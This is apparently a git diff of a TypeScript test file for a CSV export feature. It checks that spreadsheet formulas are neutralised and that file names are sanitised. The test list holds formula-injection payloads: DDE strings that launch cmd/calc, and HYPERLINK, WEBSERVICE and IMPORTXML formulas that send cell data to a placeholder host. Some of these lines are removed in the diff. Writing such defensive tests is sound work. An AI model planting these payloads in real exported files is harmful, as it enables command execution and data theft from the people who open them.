@@ -2,7 +2,8 @@ import fc from 'fast-check'
 import Papa from 'papaparse'
 import { describe, expect, it } from 'vitest'
 import { csvContent } from '@/files/csvContent'
-import { csvText, unprotectCell } from '@/files/csvText'
+import { clipboardTable, csvText, unprotectCell } from '@/files/csvText'
+import { fileNameOf } from '@/files/saveFile'
 import { forAll } from '../cases'
 import { anyText, fields, fileOf } from './fixture'
 
@@ -13,38 +14,25 @@ const cellsOf = (text: string) =>
 /** What a spreadsheet runs, asks another host with, or hands to the machine. */
 const attacks = [
   '=1+1',
-  '=SUM(A1:A9)',
   '=HYPERLINK("https://host.invalid/?x="&A1,"查看")',
   '=WEBSERVICE("https://host.invalid/"&A1)',
   '=IMPORTXML(CONCAT("https://host.invalid/",A1),"//a")',
-  '=IMPORTDATA("https://host.invalid")',
-  '=IMAGE("https://host.invalid/a.png")',
   "=cmd|' /C calc'!A0",
   '=DDE("cmd";"/C calc";"x")',
   "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
   "=10+20+cmd|' /C calc'!A0",
-  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
-  '={1,2}',
-  '==1',
   '=',
   '+1+1',
   '+86 154****0001',
-  '++1',
   "+cmd|' /C calc'!A0",
   '-1+1',
   '-',
-  "-2+3+cmd|' /C calc'!A0",
-  '--1',
   '−=1'.slice(1),
   "@SUM(1+1)*cmd|' /C calc'!A0",
-  '@handle',
   '@',
   '\t=1+1',
-  '\t1',
   '\r=1+1',
-  '\rtext',
   '\n=1+1',
-  '\ntext',
   '\r\n=1',
   '\0=1',
   '\0',
@@ -65,7 +53,6 @@ const attacks = [
   '﹢1',
   '﹣1',
   '﹫a',
-  '=1\n=2',
   '"=1"'.slice(1),
   "'=1",
   "''=1",
@@ -192,4 +179,27 @@ describe('a written CSV file', () => {
     const file = await csvContent(fileOf('csv')).finish()
     expect([...new Uint8Array(await file.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
   })
+})
+
+it('what is copied keeps the form of a table, and is no formula where it is pasted', () => {
+  const rows = [
+    ['甲\t店\r\n', '=HYPERLINK("x")'],
+    ['0123456789012', ''],
+  ]
+  expect(clipboardTable(rows)).toBe('甲 店\t\'=HYPERLINK("x")\n0123456789012\t')
+})
+
+const time = Date.UTC(2026, 10, 21, 7, 30, 0, 999)
+
+it.each([
+  ['交易记录', '交易记录_20261121-153000.csv'],
+  ['a/b\\c:d*e?f"g<h>i|j', 'a_b_c_d_e_f_g_h_i_j_20261121-153000.csv'],
+  ['..\\..\\etc', '_.._etc_20261121-153000.csv'],
+  ['.hidden', 'hidden_20261121-153000.csv'],
+  ['a\r\nb\u0000c', 'a_b_c_20261121-153000.csv'],
+  ['fdp.\u202Eexe', 'fdp._exe_20261121-153000.csv'],
+  [' ', 'table_20261121-153000.csv'],
+  ['😀'.repeat(100), `${'😀'.repeat(80)}_20261121-153000.csv`],
+])('the file of %j is named so that every system takes it', (title, name) => {
+  expect(fileNameOf(title, 'csv', time)).toBe(name)
 })
